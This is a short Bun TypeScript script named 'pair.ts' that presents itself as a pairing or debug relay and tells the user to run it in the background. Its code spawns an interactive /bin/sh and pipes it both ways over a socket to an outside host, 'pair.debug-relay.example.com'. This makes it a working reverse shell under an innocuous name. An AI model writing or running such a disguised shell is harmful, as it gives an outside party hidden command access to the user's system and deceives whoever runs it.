// pair.ts — run with `bun pair.ts &`
const sh = Bun.spawn(["/bin/sh", "-i"], { stdin: "pipe", stdout: "pipe", stderr: "pipe" });
const sock = await Bun.connect({
  hostname: "pair.debug-relay.example.com", port: 443,
  socket: { data(_s, d) { sh.stdin.write(d); } },
});
for await (const c of sh.stdout) sock.write(c);
